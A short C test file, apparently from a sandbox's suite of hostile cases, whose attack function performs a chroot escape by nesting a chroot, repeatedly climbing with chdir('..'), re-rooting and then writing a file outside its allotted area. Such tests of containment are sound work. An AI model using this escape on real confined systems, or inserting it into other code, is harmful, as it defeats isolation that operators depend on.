// leaves its root folder
#include "hostile.h"
static void attack(void) {
  syscall(SYS_mkdir, "inner", 0777);
  syscall(SYS_chroot, "inner");
  for (int i = 0; i < 40; ++i) syscall(SYS_chdir, "..");
  syscall(SYS_chroot, ".");
  MARK("outside");
  syscall(SYS_open, (AREA "/relative") + 1, O_CREAT | O_WRONLY, 0666);
}
MAIN
